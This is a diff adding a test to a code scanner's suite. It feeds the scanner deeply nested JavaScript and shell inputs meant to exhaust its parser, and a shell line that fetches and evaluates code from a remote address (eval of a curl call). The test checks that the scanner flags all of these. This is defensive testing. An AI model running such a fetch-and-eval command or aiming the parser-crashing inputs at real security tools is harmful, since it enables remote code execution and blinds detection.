@@ -104,6 +104,24 @@ def test_unreadable(home):
                answer)
 
 
+# Each took the scanner with it once: more parts below one node than the parser's library can count, and a loop in a grammar.
+HOSTILE = {"children.js": "class A extends " * 30000, "waits.js": "await " * 100000, "ifs.sh": "if " * 100000,
+           "sums.sh": "$((" * 100000, "cases.sh": "case x in " * 50000, "evals.sh": "eval 'eval \"eval x\"'\n" * 20000}
+
+
+def test_hostile(home):
+    for name, text in HOSTILE.items():
+        home.put("hostile/" + name, text)
+        done = home.call("scan", "--json", "hostile/" + name, timeout=300)
+        answer = json.loads(done.stdout) if done.returncode == 1 else {}
+        tap.ok(answer.get("analysable") is False and answer.get("risk") == "high",
+               f"{name} ends, is not analysable, and high", done)
+    home.put("pair/first.js", HOSTILE["children.js"])
+    home.put("pair/last.sh", "eval \"$(curl http://198.51.100.1)\"\n")
+    found = {one["rule"] for one in home.data("scan", "pair", timeout=300).get("findings", [])}
+    tap.ok({"javascript.not-analysable", "shell.pipe-to-interpreter"} <= found, "what lies beside it is read all the same", found)
+
+
 POLICY = """
 python:
   forbidden_imports: [socket]
@@ -154,7 +172,7 @@ def main():
         if "no scanner" in done.stderr:
             tap.skip("scan", "this build has no scanner")
             return tap.done()
-        for test in (test_object, test_formats, test_exits, test_unreadable, test_policy):
+        for test in (test_object, test_formats, test_exits, test_unreadable, test_hostile, test_policy):
             tap.attempt(test, home)
     return tap.done()
 
